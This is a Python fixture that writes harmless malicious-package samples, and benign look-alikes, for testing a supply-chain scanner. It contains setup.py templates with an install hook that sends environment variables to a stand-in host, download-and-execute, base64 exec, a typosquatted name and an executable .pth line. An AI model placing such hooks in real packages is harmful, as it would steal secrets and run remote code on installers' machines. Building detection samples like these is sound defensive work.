"""Harmless malicious-package samples (and benign look-alikes) for the GuardDog comparison.

Each sample is a real sdist (tar.gz) or wheel (zip) whose code *would* do what its name says
if it were installed; it is never installed, imported or run here. Every host is under
``.invalid`` (RFC 2606: never resolves) and every command is ``echo``. The techniques are
the ones the supply-chain issue lists: install hooks that exfiltrate the environment,
download-and-execute, ``exec`` of decoded data, a ``.pth`` file with executable lines, a
typosquatted name; the benign look-alikes must not be flagged.
"""

from __future__ import annotations

import base64
import io
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Sample:
    file: str
    technique: str
    malicious: bool


EXFIL = '''\
import json, os, urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        data = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("https://collector.invalid/c", data=data)


setup(name="exfil-env", version="0.1", cmdclass={"install": PostInstall})
'''
DOWNLOAD_EXEC = '''\
import urllib.request
from setuptools import setup

exec(urllib.request.urlopen("https://payload.invalid/stage2.py").read())
setup(name="download-exec", version="0.1")
'''
B64_EXEC = f'''\
import base64
from setuptools import setup

exec(base64.b64decode("{base64.b64encode(b'import os; os.system("echo harmless")').decode()}"))
setup(name="b64-exec", version="0.1")
'''
TYPOSQUAT = '''\
from setuptools import setup

setup(name="reqeusts", version="2.32.3", packages=["reqeusts"])
'''
BENIGN_EXTENSION = '''\
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):
    """Add a compiler flag, as many projects with C extensions do."""

    def build_extensions(self):
        for ext in self.extensions:
            ext.extra_compile_args = ["-O2"]
        super().build_extensions()


setup(name="fastmath", version="1.0", cmdclass={"build_ext": BuildExt},
      ext_modules=[Extension("fastmath._speedups", ["src/speedups.c"])])
'''
BENIGN_PLAIN = '''\
from setuptools import find_packages, setup

setup(name="tidy-utils", version="1.0", packages=find_packages(), install_requires=["requests"])
'''


def _sdist(path: Path, name: str, files: dict[str, str]) -> None:
    with tarfile.open(path, "w:gz") as archive:
        for member, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}/{member}")
            info.size, info.mtime = len(data), 1_700_000_000
            archive.addfile(info, io.BytesIO(data))


def _wheel(path: Path, files: dict[str, str]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, text in files.items():
            archive.writestr(member, text)


def build(folder: Path) -> list[Sample]:
    """Write every sample into ``folder``; return what each one is."""
    folder.mkdir(parents=True, exist_ok=True)
    pkg_info = "Metadata-Version: 2.1\nName: {0}\nVersion: {1}\n"
    sdists = [
        ("exfil-env-0.1", EXFIL, "install hook sends os.environ over HTTP", True),
        ("download-exec-0.1", DOWNLOAD_EXEC, "download and exec at setup time", True),
        ("b64-exec-0.1", B64_EXEC, "exec(base64.b64decode(...)) in setup.py", True),
        ("reqeusts-2.32.3", TYPOSQUAT, "typosquat of requests (swapped letters)", True),
        ("fastmath-1.0", BENIGN_EXTENSION, "benign: cmdclass build_ext for a C extension", False),
        ("tidy-utils-1.0", BENIGN_PLAIN, "benign: plain setup.py", False),
    ]
    samples = []
    for name, setup_py, technique, malicious in sdists:
        project, version = name.rsplit("-", 1)
        _sdist(folder / f"{name}.tar.gz", name, {
            "setup.py": setup_py, "PKG-INFO": pkg_info.format(project, version),
            "src/speedups.c": "int speedup(void) { return 1; }\n"})
        samples.append(Sample(f"{name}.tar.gz", technique, malicious))
    _wheel(folder / "pth_hook-0.1-py3-none-any.whl", {
        "pth_hook.pth": 'import os; os.system("echo harmless")\n',
        "pth_hook/__init__.py": "",
        "pth_hook-0.1.dist-info/METADATA": pkg_info.format("pth-hook", "0.1"),
        "pth_hook-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n",
        "pth_hook-0.1.dist-info/RECORD": ""})
    samples.append(Sample("pth_hook-0.1-py3-none-any.whl", ".pth file with an executable line",
                          True))
    return samples
